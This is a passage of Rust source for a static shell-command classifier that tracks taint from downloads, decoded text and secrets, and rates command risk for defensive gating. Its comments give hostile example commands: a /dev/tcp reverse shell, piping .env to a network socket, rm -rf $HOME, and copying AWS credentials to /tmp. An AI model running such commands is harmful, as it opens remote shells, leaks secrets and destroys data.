//! A small model of the shell: splits tokens into pipelines, expands words with the
//! variables assigned so far, follows wrappers and nested scripts, feeds each command
//! what its pipe gives it, and hands simple commands to the rules.

use crate::lex::{self, Op, Part, RedirKind, Token, Word};
use crate::paths::{self, Place, Site};
use crate::project::{self, Inline};
use crate::rules::{self, Change, Cmd, Finding, Nested};
use crate::wrap::{self, INTERPRETERS, Wrapped};
use crate::{Classification, ShellAction, UNRESOLVED, detect_env, egress, files, shell_addr};
use airlock_core::{Risk, Verb};
use std::collections::{HashMap, HashSet};

/// How deep `sh -c`, `eval` and `$( … )` may nest before the rest counts as opaque.
const MAX_DEPTH: usize = 8;
/// Wrapper, alias and keyword layers followed on one command before giving up.
const MAX_UNWRAP: usize = 32;
/// The text standing for what `xargs` (or `find -exec`) reads at run time.
pub(crate) const XARGS_INPUT: &str = "{}";

/// How a simple command was reached: its nesting depth, whether a tool runner ran it
/// (`npx`), whether `xargs` feeds its arguments.
#[derive(Debug, Clone, Copy)]
struct How {
    depth: usize,
    tool: bool,
    fed: bool,
}

/// Where unresolved data came from, which decides how bad running it is.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Taint {
    /// Fetched from the network (`curl`, `wget`).
    pub download: bool,
    /// Decoded or unscrambled (`base64 -d`, `xxd -r`, `rev`), i.e. deliberately hidden.
    pub decode: bool,
    /// Holds secrets: the environment (`env`, `printenv`), a credential file (`.env`,
    /// `~/.aws/credentials`, `~/.ssh/id_rsa`) or what a CLI prints of its credentials.
    pub secret: bool,
    /// Holds a variable named like a secret (`$GITHUB_TOKEN`).
    pub secret_var: bool,
}

impl Taint {
    pub fn union(self, other: Taint) -> Taint {
        Taint {
            download: self.download || other.download,
            decode: self.decode || other.decode,
            secret: self.secret || other.secret,
            secret_var: self.secret_var || other.secret_var,
        }
    }
    /// Whether, run as code, it is code nobody has seen (downloaded or decoded).
    pub fn untrusted(self) -> bool {
        self.download || self.decode
    }
    fn secret() -> Taint {
        Taint {
            secret: true,
            ..Taint::default()
        }
    }
}

/// One argument after expansion.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Arg {
    /// The expanded text, or the source text (`$NS`, `$(…)`) when not resolved.
    pub text: String,
    pub resolved: bool,
    pub taint: Taint,
}

impl Arg {
    pub fn lit(text: &str) -> Arg {
        Arg {
            text: text.to_string(),
            resolved: true,
            taint: Taint::default(),
        }
    }
    pub fn unresolved(text: &str, taint: Taint) -> Arg {
        Arg {
            text: text.to_string(),
            resolved: false,
            taint,
        }
    }
    /// The text when resolved, otherwise [`UNRESOLVED`].
    pub fn name(&self) -> String {
        if self.resolved {
            self.text.clone()
        } else {
            UNRESOLVED.to_string()
        }
    }
    /// The environment the argument names, only when it is resolved.
    pub fn env(&self) -> Option<String> {
        if self.resolved {
            detect_env(&self.text)
        } else {
            None
        }
    }
}

/// What a command reads on its standard input.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Stdin {
    /// Nothing piped or redirected in.
    Terminal,
    /// Known text (`echo …|`, a here-document, `<<<`).
    Text(String),
    /// Output of a command that cannot be known statically.
    Opaque(Taint),
}

impl Stdin {
    pub fn taint(&self) -> Taint {
        match self {
            Stdin::Opaque(t) => *t,
            _ => Taint::default(),
        }
    }
}

/// A shell variable: its text when known.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Value {
    pub text: Option<String>,
    pub taint: Taint,
}

impl From<&Arg> for Value {
    fn from(a: &Arg) -> Self {
        Value {
            text: a.resolved.then(|| a.text.clone()),
            taint: a.taint,
        }
    }
}

/// What earlier commands on the line set up for later ones.
#[derive(Debug)]
pub(crate) struct State {
    pub vars: HashMap<String, Value>,
    pub aliases: HashMap<String, String>,
    pub cwd: Option<String>,
    pub tf_workspace: Option<String>,
    pub kube_context: Option<String>,
    /// Shell functions defined so far; their bodies were classified at definition.
    pub functions: HashSet<String>,
    /// The workspace and the directory relative paths start from.
    pub site: Site,
    /// Files downloads saved (`curl -o x.sh`, `wget URL`, `curl … > x.sh`).
    pub downloads: HashSet<String>,
    /// Files secrets were written to (`env > /tmp/e`, `cp ~/.aws/credentials /tmp/c`).
    pub secret_files: HashSet<String>,
}

impl State {
    fn new(cwd: Option<&str>) -> State {
        State {
            vars: HashMap::new(),
            aliases: HashMap::new(),
            cwd: None,
            tf_workspace: None,
            kube_context: None,
            functions: HashSet::new(),
            site: Site::new(cwd),
            downloads: HashSet::new(),
            secret_files: HashSet::new(),
        }
    }
    /// Whether a path holds secrets: a credential file, or one secrets were written to.
    pub fn is_secret(&self, path: &str) -> bool {
        paths::is_secret(path) || self.secret_files.contains(&egress::path_key(path))
    }
    /// Keeps `PWD` in step with the current directory.
    fn sync_pwd(&mut self) {
        let text = self.site.dir_text();
        self.vars.insert(
            "PWD".to_string(),
            Value {
                text,
                taint: Taint::default(),
            },
        );
    }
    /// Where a path argument points.
    pub fn place(&self, a: &Arg) -> Place {
        self.site.place(a)
    }
    /// What writing a command's output to `t` does (`>` when not `append`): nothing worth
    /// a finding inside the workspace, in scratch space or to `/dev/null`; critical on a
    /// file that decides who may do what; elsewhere, overwriting destroys what was there.
    pub fn write_finding(&self, t: &Arg, append: bool) -> Option<Finding> {
        if t.resolved && (t.text.starts_with("/dev/") || t.text == "-") {
            return None;
        }
        if t.resolved && paths::is_privileged(&t.text) {
            let f = files::file_finding(
                "privileged-file-write",
                Verb::Update,
                Risk::Critical,
                Some(t),
            );
            return Some(if append { f } else { f.destructive() });
        }
        if self.place(t) == Place::Inside || self.site.is_scratch(t) {
            return None;
        }
        Some(if append {
            files::file_finding("file-append", Verb::Update, Risk::Medium, Some(t))
        } else {
            files::file_finding("file-overwrite", Verb::Update, Risk::High, Some(t)).destructive()
        })
    }

    /// A variable's text when it is set and known.
    pub fn var(&self, name: &str) -> Option<&str> {
        self.vars.get(name).and_then(|v| v.text.as_deref())
    }
}

/// Tokens of one simple command.
#[derive(Debug, Default)]
struct RawCmd {
    words: Vec<Word>,
    redirs: Vec<lex::Redir>,
}

/// Splits tokens into pipelines of simple commands.
fn pipelines(tokens: Vec<Token>) -> Vec<Vec<RawCmd>> {
    let mut all = Vec::new();
    let mut pipeline = Vec::new();
    let mut cmd = RawCmd::default();
    for t in tokens {
        match t {
            Token::Word(w) => cmd.words.push(w),
            Token::Redir(r) => cmd.redirs.push(r),
            Token::Op(op) => {
                if !cmd.words.is_empty() || !cmd.redirs.is_empty() {
                    pipeline.push(std::mem::take(&mut cmd));
                }
                if op != Op::Pipe && !pipeline.is_empty() {
                    all.push(std::mem::take(&mut pipeline));
                }
            }
        }
    }
    if !cmd.words.is_empty() || !cmd.redirs.is_empty() {
        pipeline.push(cmd);
    }
    if !pipeline.is_empty() {
        all.push(pipeline);
    }
    all
}

/// `NAME=value` at the start of a command: the name and the value's parts.
fn split_assignment(w: &Word) -> Option<(String, Word)> {
    let Some(Part::Lit {
        text,
        quoted: false,
    }) = w.parts.first()
    else {
        return None;
    };
    let (name, value) = text.split_once('=')?;
    let name = name.strip_suffix('+').unwrap_or(name);
    let mut chars = name.chars();
    let first_ok = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
    if !first_ok || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    let mut parts = vec![Part::Lit {
        text: value.to_string(),
        quoted: false,
    }];
    parts.extend(w.parts.iter().skip(1).cloned());
    Some((
        name.to_string(),
        Word {
            parts,
            raw: w.raw.clone(),
        },
    ))
}

/// The program name without its directory (`/usr/bin/kubectl` is `kubectl`).
fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Quotes a word for display when the shell would need it.
fn display_word(a: &Arg) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-_./=:,+@%^~*{}[]$()".contains(c);
    if !a.resolved || (!a.text.is_empty() && a.text.chars().all(safe)) {
        a.text.clone()
    } else {
        format!("'{}'", a.text.replace('\'', r"'\''"))
    }
}

/// A command as it would run: assignments, then the program and its arguments.
fn segment(assigns: &[(String, Arg)], program: &str, args: &[Arg]) -> String {
    let mut words: Vec<String> = assigns
        .iter()
        .map(|(n, v)| format!("{n}={}", display_word(v)))
        .collect();
    words.push(program.to_string());
    words.extend(args.iter().map(display_word));
    words.join(" ")
}

/// Words that only shape control flow; what follows them is the command.
const KEYWORDS: [&str; 14] = [
    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "fi", "done", "esac",
    "coproc",
];

/// Walks command lines, collecting what they would do.
pub(crate) struct Runner<'o> {
    state: State,
    out: &'o mut Classification,
}

impl<'o> Runner<'o> {
    /// A runner for commands run in `cwd` (the workspace); see [`Site::new`].
    pub fn new(out: &'o mut Classification, cwd: Option<&str>) -> Self {
        let mut state = State::new(cwd);
        state.sync_pwd();
        // `rm -rf $HOME` must look like `rm -rf ~`.
        state.vars.insert(
            "HOME".to_string(),
            Value {
                text: Some("~".to_string()),
                taint: Taint::default(),
            },
        );
        Self { state, out }
    }

    /// Runs a script; returns what it writes to stdout, as far as it can be known.
    pub fn run_script(&mut self, src: &str, depth: usize, stdin: Stdin) -> Stdin {
        if depth > MAX_DEPTH {
            let f = Finding::new(
                "opaque-exec",
                Verb::Exec,
                Risk::Critical,
                "command",
                UNRESOLVED,
            );
            self.push(f, src.chars().take(200).collect());
            return Stdin::Opaque(Taint::default());
        }
        let mut stdin = Some(stdin);
        let mut output: Option<Stdin> = None;
        let tokens = self.strip_function_heads(lex::tokenize(src));
        for pipeline in pipelines(tokens) {
            let mut data = stdin.take().unwrap_or(Stdin::Terminal);
            for cmd in &pipeline {
                data = self.run_command(cmd, data, depth);
            }
            output = Some(match (output, data) {
                (None, d) => d,
                (Some(Stdin::Text(a)), Stdin::Text(b)) => Stdin::Text(a + &b),
                (Some(a), b) => Stdin::Opaque(a.taint().union(b.taint())),
            });
        }
        output.unwrap_or(Stdin::Text(String::new()))
    }

    /// Removes `name ()` heads of function definitions and remembers the names; the
    /// bodies stay and are classified where they are defined.
    fn strip_function_heads(&mut self, tokens: Vec<Token>) -> Vec<Token> {
        let mut out = Vec::with_capacity(tokens.len());
        let mut it = tokens.into_iter().peekable();
        while let Some(t) = it.next() {
            if let Token::Word(w) = &t
                && let [
                    Part::Lit {
                        text,
                        quoted: false,
                    },
                ] = w.parts.as_slice()
                && it.peek() == Some(&Token::Op(Op::Open))
            {
                let name = text.clone();
                let open = it.next();
                if it.peek() == Some(&Token::Op(Op::Close)) {
                    it.next();
                    self.state.functions.insert(name);
                    continue;
                }
                out.push(t);
                out.extend(open);
                continue;
            }
            out.push(t);
        }
        out
    }

    fn push(&mut self, f: Finding, segment: String) {
        let mut risk = f.risk;
        // A destructive action on something only known at run time could hit anything.
        if f.name.contains(UNRESOLVED) && f.verb.is_mutation() {
            risk = risk.max(if f.destructive || f.verb == Verb::Delete {
                Risk::High
            } else {
                Risk::Medium
            });
        }
        let env = f.env.or_else(|| self.ambient_env());
        self.out.actions.push(ShellAction {
            verb: f.verb,
            target: shell_addr(&f.kind, &f.name),
            env,
            risk,
            destructive: f.destructive,
            rule: f.rule,
            segment,
        });
    }

    /// The environment named by generic variables or the working directory.
    fn ambient_env(&self) -> Option<String> {
        [
            "ENV",
            "ENVIRONMENT",
            "STAGE",
            "DEPLOY_ENV",
            "APP_ENV",
            "TARGET_ENV",
        ]
        .iter()
        .find_map(|n| self.state.var(n).and_then(detect_env))
        .or_else(|| self.state.cwd.as_deref().and_then(paths::path_env))
    }

    fn run_command(&mut self, cmd: &RawCmd, stdin: Stdin, depth: usize) -> Stdin {
        let mut assigns = Vec::new();
        let mut words = cmd.words.iter().peekable();
        while let Some((name, value)) = words.peek().and_then(|w| split_assignment(w)) {
            let v = self.expand_one(&value, depth);
            assigns.push((name, v));
            words.next();
        }
        for (name, value) in &assigns {
            self.hook_var(name, value, depth);
        }
        let mut argv = Vec::new();
        for w in words {
            argv.extend(self.expand(w, depth, true));
        }
        let mut stdin = stdin;
        let mut outputs = Vec::new();
        for r in &cmd.redirs {
            let target = r.target.as_ref().map(|w| self.expand_one(w, depth));
            if let Some(t) = target
                .as_ref()
                .filter(|t| t.resolved && egress::is_network_path(&t.text))
            {
                // `bash -i >& /dev/tcp/host/port 0>&1`, `cat .env > /dev/tcp/…`.
                let host = egress::network_host(&t.text);
                let f = Finding::new(
                    "network-redirect",
                    Verb::Exec,
                    Risk::Critical,
                    "network",
                    &host,
                );
                let seg = format!("{} > {}", segment(&assigns, "", &argv), t.text);
                self.push(f, seg.trim().to_string());
                continue;
            }
            match (r.kind, target) {
                (RedirKind::HereDoc, _) => {
                    stdin = Stdin::Text(r.body.clone().unwrap_or_default());
                }
                (RedirKind::HereString, Some(t)) if t.resolved => {
                    stdin = Stdin::Text(t.text + "\n");
                }
                (RedirKind::HereString | RedirKind::In, t) => {
                    let mut taint = t.as_ref().map(|t| t.taint).unwrap_or_default();
                    let kind = r.kind;
                    taint.secret |= t.as_ref().is_some_and(|t| {
                        t.resolved && kind == RedirKind::In && self.state.is_secret(&t.text)
                    });
                    stdin = Stdin::Opaque(taint);
                }
                (RedirKind::Out | RedirKind::Append, Some(t)) if is_block_device(&t.text) => {
                    let f = Finding::new(
                        "redirect-to-device",
                        Verb::Delete,
                        Risk::Critical,
                        "device",
                        &t.text,
                    )
                    .destructive();
                    let seg = format!("{} > {}", segment(&assigns, "", &argv), t.text);
                    self.push(f, seg.trim().to_string());
                }
                (kind @ (RedirKind::Out | RedirKind::Append), Some(t)) => {
                    let append = kind == RedirKind::Append;
                    if let Some(f) = self.state.write_finding(&t, append) {
                        let op = if append { ">>" } else { ">" };
                        let seg = format!("{} {op} {}", segment(&assigns, "", &argv), t.text);
                        self.push(f, seg.trim().to_string());
                    }
                    outputs.push(t);
                }
                _ => {}
            }
        }
        if argv.is_empty() {
            for (n, v) in &assigns {
                self.state.vars.insert(n.clone(), Value::from(v));
            }
            return Stdin::Text(String::new());
        }
        let out = self.dispatch(argv, assigns, stdin, depth);
        for t in outputs.iter().filter(|t| t.resolved) {
            if out.taint().download {
                self.state.downloads.insert(egress::path_key(&t.text));
            }
            if out.taint().secret {
                self.state.secret_files.insert(egress::path_key(&t.text));
            }
        }
        out
    }

    /// Expands a word without field splitting (assignment values, redirect targets).
    fn expand_one(&mut self, w: &Word, depth: usize) -> Arg {
        let mut fields = self.expand(w, depth, false);
        match fields.len() {
            1 => fields.remove(0),
            _ => Arg::lit(""),
        }
    }

    /// Expands a word into arguments: variables, substitutions and, when `split`,
    /// splitting of unquoted expansions on whitespace.
    fn expand(&mut self, w: &Word, depth: usize, split: bool) -> Vec<Arg> {
        let mut fields = Vec::new();
        let mut cur = Arg::lit("");
        let mut started = false;
        for part in &w.parts {
            let (value, quoted, raw) = match part {
                Part::Lit { text, .. } => {
                    cur.text.push_str(text);
                    started = true;
                    continue;
                }
                Part::Var {
                    name,
                    quoted,
                    default,
                    scripts,
                    arith,
                } => {
                    let mut v = match (self.state.vars.get(name), default) {
                        (Some(v), _) => v.clone(),
                        (None, Some(d)) => Value {
                            text: Some(d.clone()),
                            taint: Taint::default(),
                        },
                        (None, None) => Value {
                            text: None,
                            taint: Taint::default(),
                        },
                    };
                    if v.text.is_none() && egress::is_secret_var(name.trim_start_matches('{')) {
                        v.taint.secret_var = true;
                    }
                    // What the expansion may run, whichever branch the shell takes.
                    let mut run: Vec<String> = scripts.clone();
                    if let Some(body) = arith {
                        run.extend(arith_scripts(body, &self.state, false));
                    }
                    for s in run {
                        let out = self.run_script(&s, depth + 1, Stdin::Terminal);
                        v.taint = v.taint.union(out.taint());
                    }
                    let raw = if name.is_empty() {
                        "$((…))".to_string()
                    } else if name.starts_with('{') {
                        format!("${name}")
                    } else {
                        format!("${{{name}}}")
                    };
                    (v, *quoted, raw)
                }
                Part::Subst { script, quoted } => {
                    let v = match self.run_script(script, depth + 1, Stdin::Terminal) {
                        Stdin::Text(t) => Value {
                            text: Some(t.trim_end_matches('\n').to_string()),
                            taint: Taint::default(),
                        },
                        other => Value {
                            text: None,
                            taint: other.taint(),
                        },
                    };
                    (v, *quoted, format!("$({script})"))
                }
            };
            cur.taint = cur.taint.union(value.taint);
            match value.text {
                None => {
                    cur.resolved = false;
                    cur.text.push_str(&raw);
                    started = true;
                }
                Some(t) if quoted || !split => {
                    cur.text.push_str(&t);
                    started = true;
                }
                Some(t) => {
                    if t.starts_with(char::is_whitespace) && started {
                        fields.push(std::mem::replace(&mut cur, Arg::lit("")));
                        started = false;
                    }
                    let mut pieces = t.split_whitespace().peekable();
                    while let Some(piece) = pieces.next() {
                        cur.text.push_str(piece);
                        started = true;
                        if pieces.peek().is_some() {
                            fields.push(std::mem::replace(&mut cur, Arg::lit("")));
                        }
                    }
                    if t.ends_with(char::is_whitespace) && started {
                        fields.push(std::mem::replace(&mut cur, Arg::lit("")));
                        started = false;
                    }
                }
            }
        }
        if started {
            fields.push(cur);
        }
        fields
    }

    /// Follows wrappers and nested scripts down to a command the rules know, and
    /// returns what the command writes to stdout.
    fn dispatch(
        &mut self,
        mut argv: Vec<Arg>,
        mut assigns: Vec<(String, Arg)>,
        mut stdin: Stdin,
        depth: usize,
    ) -> Stdin {
        let mut seen_aliases = HashSet::new();
        // Set once a tool runner (`npx`, `uv run` …) was peeled off: a program no rule
        // knows is then the project's own tooling.
        let mut tool = false;
        // Set once `xargs` was peeled off: the arguments are data read at run time.
        let mut fed = false;
        for _ in 0..MAX_UNWRAP {
            let Some(first) = argv.first() else {
                return Stdin::Opaque(stdin.taint());
            };
            if !first.resolved {
                let f = exec_of(first.taint, UNRESOLVED);
                self.push(f, segment(&assigns, &first.text, &argv[1..]));
                return Stdin::Opaque(first.taint.union(stdin.taint()));
            }
            if first.text.contains('/')
                && self
                    .state
                    .downloads
                    .contains(&egress::path_key(&first.text))
            {
                let f = exec_of(
                    Taint {
                        download: true,
                        ..Taint::default()
                    },
                    basename(&first.text),
                );
                self.push(f, segment(&assigns, &first.text, &argv[1..]));
                return Stdin::Opaque(stdin.taint());
            }
            let name = basename(&first.text).to_string();
            if let Some(alias) = self.state.aliases.get(&name)
                && seen_aliases.insert(name.clone())
            {
                let mut expanded: Vec<Arg> = alias.split_whitespace().map(Arg::lit).collect();
                expanded.extend(argv.drain(1..));
                argv = expanded;
                continue;
            }
            if KEYWORDS.contains(&name.as_str()) {
                argv.remove(0);
                continue;
            }
            if name == "function" {
                if let Some(f) = argv.get(1) {
                    self.state.functions.insert(f.text.clone());
                }
                argv.drain(..argv.len().min(2));
                continue;
            }
            if self.state.functions.contains(&name) {
                let f = Finding::read("shell-function", "command", &name);
                self.push(f, segment(&assigns, &name, &argv[1..]));
                return Stdin::Opaque(stdin.taint());
            }
            if matches!(name.as_str(), "for" | "select" | "case") {
                if let (true, Some(var)) = (name != "case", argv.get(1)) {
                    let v = self.loop_value(&argv[2..]);
                    self.state.vars.insert(var.text.clone(), v);
                }
                return Stdin::Opaque(stdin.taint());
            }
            let seg = segment(&assigns, &name, &argv[1..]);
            match wrap::unwrap(&name, &argv[1..]) {
                Some(Wrapped::Argv {
                    argv: inner,
                    assigns: more,
                }) => {
                    for (n, v) in &more {
                        self.hook_var(n, v, depth);
                    }
                    assigns.extend(more);
                    argv = inner;
                }
                Some(Wrapped::Xargs {
                    argv: inner,
                    replace,
                }) => {
                    let input = Arg::unresolved(XARGS_INPUT, stdin.taint());
                    fed = true;
                    argv = match replace {
                        Some(r) => inner
                            .into_iter()
                            .map(|a| {
                                if a.text == r {
                                    input.clone()
                                } else if !r.is_empty() && a.text.contains(&r) {
                                    // `sh -c 'echo {}; rm …'`: the rest of the text stays.
                                    Arg {
                                        text: a.text.replace(&r, XARGS_INPUT),
                                        resolved: false,
                                        taint: a.taint.union(input.taint),
                                    }
                                } else {
                                    a
                                }
                            })
                            .collect(),
                        None => inner.into_iter().chain([input]).collect(),
                    };
                    if argv.len() == 1 {
                        argv.insert(0, Arg::lit("echo"));
                    }
                    stdin = Stdin::Opaque(stdin.taint());
                }
                Some(Wrapped::Script(script)) => {
                    // A script with unknown parts is still read, its unknown parts left
                    // unresolved; only downloaded or decoded text, or text that is
                    // nothing but data read at run time (`xargs sh -c`), is opaque.
                    let data = !script.resolved && script.text.trim() == XARGS_INPUT;
                    if data {
                        self.push(exec_of(script.taint, &name), seg);
                        return Stdin::Opaque(script.taint);
                    }
                    if script.resolved || !script.taint.untrusted() {
                        return self.run_script(&script.text, depth + 1, stdin);
                    }
                    self.push(exec_of(script.taint, &name), seg);
                    return Stdin::Opaque(script.taint);
                }
                Some(Wrapped::ScriptFile(file)) => {
                    let at = argv
                        .iter()
                        .skip(1)
                        .position(|a| *a == file)
                        .map_or(argv.len(), |i| i + 2);
                    let rest = argv.get(at..).unwrap_or_default();
                    self.script_file(&name, &file, rest, seg);
                    return Stdin::Opaque(file.taint);
                }
                Some(Wrapped::StdinScript) => {
                    let shell = !INTERPRETERS.contains(&name.as_str());
                    match stdin {
                        Stdin::Text(t) if shell => {
                            return self.run_script(&t, depth + 1, Stdin::Terminal);
                        }
                        Stdin::Text(t) => {
                            self.inline_code(&name, &Arg::lit(&t), &Stdin::Terminal, seg, depth);
                            return Stdin::Opaque(Taint {
                                secret: project::reads_secrets(&t),
                                ..Taint::default()
                            });
                        }
                        Stdin::Opaque(t) if t.untrusted() => {
                            self.push(exec_of(t, &name), seg);
                            return Stdin::Opaque(t);
                        }
                        Stdin::Opaque(t) if shell => {
                            // Commands from a pipe nobody can read: could be anything.
                            self.push(exec_of(Taint::default(), &name), seg);
                            return Stdin::Opaque(t);
                        }
                        Stdin::Terminal if !shell => {
                            // An interpreter's prompt, or flags only (`node --test`).
                            let f =
                                Finding::new("local-exec", Verb::Exec, Risk::Low, "command", &name);
                            self.push(f, seg);
                            return Stdin::Opaque(Taint::default());
                        }
                        other => {
                            self.out.unknown.push(seg);
                            return Stdin::Opaque(other.taint());
                        }
                    }
                }
                Some(Wrapped::Inline(code)) => {
                    self.inline_code(&name, &code, &stdin, seg, depth);
                    // Code that reads the environment or a credential file may print it.
                    let mut out = code.taint.union(stdin.taint());
                    out.secret |= code.resolved && project::reads_secrets(&code.text);
                    return Stdin::Opaque(out);
                }
                Some(Wrapped::Tool(inner)) => {
                    tool = true;
                    argv = inner;
                }
                Some(Wrapped::Nothing) => {
                    self.push(Finding::read("shell-builtin", "command", &name), seg);
                    // `env` alone prints the whole environment.
                    let out = if name == "env" {
                        Taint::secret()
                    } else {
                        stdin.taint()
                    };
                    return Stdin::Opaque(out);
                }
                None => {
                    let path = first.text.clone();
                    let how = How { depth, tool, fed };
                    return self.run_rules(&name, &path, &argv[1..], &assigns, stdin, how);
                }
            }
        }
        let f = exec_of(Taint::default(), UNRESOLVED);
        let seg = segment(&assigns, "", &argv);
        self.push(f, seg.trim().to_string());
        Stdin::Opaque(stdin.taint())
    }

    /// Variables whose value the shell or a program runs: a command (`PROMPT_COMMAND`,
    /// `PAGER`, `GIT_SSH_COMMAND` …), a prompt expanded with its substitutions (`PS1`,
    /// `PS4`), or a startup file a shell sources (`BASH_ENV`, `ENV`). Classified as run.
    fn hook_var(&mut self, name: &str, value: &Arg, depth: usize) {
        let seg = format!("{name}={}", display_word(value));
        if matches!(
            name,
            "PS0" | "PS1" | "PS2" | "PS3" | "PS4" | "BASH_ENV" | "ENV"
        ) {
            for s in lex::substitutions(&value.text, true) {
                self.run_script(&s, depth + 1, Stdin::Terminal);
            }
        }
        // `ENV=prod` names an environment; as a startup file it is a path.
        let startup = name == "BASH_ENV" || (name == "ENV" && value.text.contains('/'));
        if startup && !value.text.is_empty() {
            let inside = value.resolved && self.state.place(value) == Place::Inside;
            match inside
                .then(|| project::local_exec(&value.text, &[]))
                .flatten()
            {
                Some(f) => self.push(f, seg),
                None => {
                    let f = Finding::new(
                        "startup-file",
                        Verb::Exec,
                        Risk::High,
                        "command",
                        &value.name(),
                    )
                    .destructive();
                    self.push(f, seg);
                }
            }
            return;
        }
        const COMMAND_VARS: [&str; 21] = [
            "PROMPT_COMMAND",
            "PAGER",
            "MANPAGER",
            "GIT_PAGER",
            "SYSTEMD_PAGER",
            "EDITOR",
            "VISUAL",
            "GIT_EDITOR",
            "GIT_SEQUENCE_EDITOR",
            "GIT_SSH_COMMAND",
            "GIT_SSH",
            "GIT_EXTERNAL_DIFF",
            "GIT_ASKPASS",
            "SSH_ASKPASS",
            "SUDO_ASKPASS",
            "LESSOPEN",
            "LESSCLOSE",
            "BROWSER",
            "RSYNC_RSH",
            "FZF_DEFAULT_COMMAND",
            "GIT_PROXY_COMMAND",
        ];
        if !COMMAND_VARS.contains(&name) {
            return;
        }
        let script = value.text.trim_start_matches(['|', '-']).trim();
        // A program found on the PATH by its bare name (`PAGER=cat`, `EDITOR=vim`) runs
        // the usual way; anything else is read as the command line it is.
        let bare = script
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c));
        let shell = wrap::unwrap(script, &[]).is_some();
        if script.is_empty() || (value.resolved && bare && !shell) {
            return;
        }
        if !value.resolved {
            self.push(exec_of(value.taint, UNRESOLVED), seg);
            return;
        }
        self.run_script(script, depth + 1, Stdin::Opaque(Taint::default()));
    }

    /// The value a loop variable takes: the item that is worst as a path when every item
    /// is known and none names an environment, otherwise unknown.
    fn loop_value(&self, rest: &[Arg]) -> Value {
        let items = match rest.split_first() {
            Some((kw, items)) if kw.text == "in" => items,
            _ => &[],
        };
        let taint = items.iter().fold(Taint::default(), |t, a| t.union(a.taint));
        let known = !items.is_empty() && items.iter().all(|a| a.resolved && a.env().is_none());
        let text = known
            .then(|| items.iter().max_by_key(|a| self.state.place(a)))
            .flatten()
            .map(|a| a.text.clone());
        Value { text, taint }
    }

    /// `bash FILE`, `python3 FILE`, `source FILE`: downloaded or decoded code is critical;
    /// the workspace's own scripts (and, sourced, the home directory's startup files) are
    /// a local `exec`; anything else is not judged.
    fn script_file(&mut self, name: &str, file: &Arg, rest: &[Arg], seg: String) {
        if file.taint.untrusted() {
            self.push(exec_of(file.taint, name), seg);
            return;
        }
        if !file.resolved {
            self.out.unknown.push(seg);
            return;
        }
        if self.state.downloads.contains(&egress::path_key(&file.text)) {
            let f = exec_of(
                Taint {
                    download: true,
                    ..Taint::default()
                },
                basename(&file.text),
            );
            self.push(f, seg);
            return;
        }
        let sourced_dotfile = matches!(name, "source" | ".") && file.text.starts_with("~/");
        let local = self.state.place(file) == Place::Inside || sourced_dotfile;
        match local
            .then(|| project::local_exec(&file.text, rest))
            .flatten()
        {
            Some(f) => self.push(f, seg),
            None => self.out.unknown.push(seg),
        }
    }

    /// `python3 -c CODE`, `node -e CODE`, code piped into an interpreter.
    fn inline_code(&mut self, name: &str, code: &Arg, stdin: &Stdin, seg: String, depth: usize) {
        if code.taint.untrusted() || !code.resolved {
            self.push(exec_of(code.taint, name), seg);
            return;
        }
        let verdict = project::inline(&code.text);
        // Backticks run a command in Perl, Ruby and PHP (in JavaScript they quote).
        let backticks = matches!(name, "perl" | "ruby" | "php") && code.text.contains('`');
        let spells_commands = backticks || verdict != Inline::Plain;
        let leaks_stdin = stdin.taint().secret && project::uses_network(&code.text);
        let f = match verdict {
            Inline::Exfiltrates => Finding::new(
                "secret-exfiltration",
                Verb::Update,
                Risk::Critical,
                "network",
                "inline-code",
            ),
            _ if leaks_stdin => Finding::new(
                "secret-exfiltration",
                Verb::Update,
                Risk::Critical,
                "network",
                "inline-code",
            ),
            Inline::RunsHidden => {
                Finding::new("opaque-exec", Verb::Exec, Risk::Critical, "command", name)
            }
            // Side effects the code's text does not spell out: the worst they could be.
            Inline::Unclear => Finding::new(
                "inline-side-effects",
                Verb::Exec,
                Risk::High,
                "command",
                name,
            )
            .destructive(),
            _ if backticks => Finding::new(
                "inline-side-effects",
                Verb::Exec,
                Risk::High,
                "command",
                name,
            )
            .destructive(),
            Inline::Plain => Finding::new("local-exec", Verb::Exec, Risk::Low, "command", name),
        };
        self.push(f, seg);
        // The commands it spells out are classified as run.
        let scripts = if spells_commands {
            project::inline_commands(&code.text, backticks)
        } else {
            Vec::new()
        };
        for script in scripts {
            self.run_script(&script, depth + 1, Stdin::Terminal);
        }
    }

    fn run_rules(
        &mut self,
        name: &str,
        path: &str,
        args: &[Arg],
        assigns: &[(String, Arg)],
        stdin: Stdin,
        how: How,
    ) -> Stdin {
        let How { depth, tool, fed } = how;
        let seg = segment(assigns, name, args);
        let secret_path = |p: &str| self.state.is_secret(p);
        if let Some(f) = egress::check(name, args, &stdin, &secret_path) {
            self.push(f, seg.clone());
        }
        let copies = egress::secret_copies(name, args, &stdin, &|p: &str| self.state.is_secret(p));
        self.state.secret_files.extend(copies);
        let saved = egress::downloads(name, args);
        self.state.downloads.extend(saved);
        if name == "tee" && stdin.taint().download {
            for a in args
                .iter()
                .filter(|a| a.resolved && !a.text.starts_with('-'))
            {
                self.state.downloads.insert(egress::path_key(&a.text));
            }
        }
        let cmd = Cmd {
            program: name,
            args,
            assigns,
            stdin: &stdin,
            state: &self.state,
        };
        let mut stdout = stdout_of(name, args, &stdin, &|p: &str| self.state.is_secret(p));
        if name == "pwd"
            && let Some(dir) = self.state.site.dir_text()
        {
            stdout = Stdin::Text(format!("{dir}\n"));
        }
        let Some(outcome) = rules::classify(&cmd) else {
            // A program of the workspace (`./run.sh`, `bin/test`) or one a tool runner
            // runs (`npx jest`) is the project's own.
            let own =
                tool || (path.contains('/') && self.state.place(&Arg::lit(path)) == Place::Inside);
            match own.then(|| project::local_exec(name, args)).flatten() {
                Some(f) => self.push(f, seg),
                None => self.out.unknown.push(seg),
            }
            return stdout;
        };
        for mut f in outcome.findings {
            // Arguments read at run time could name anything: a change to them is
            // rated as the worst it could be.
            if fed && f.verb.is_mutation() {
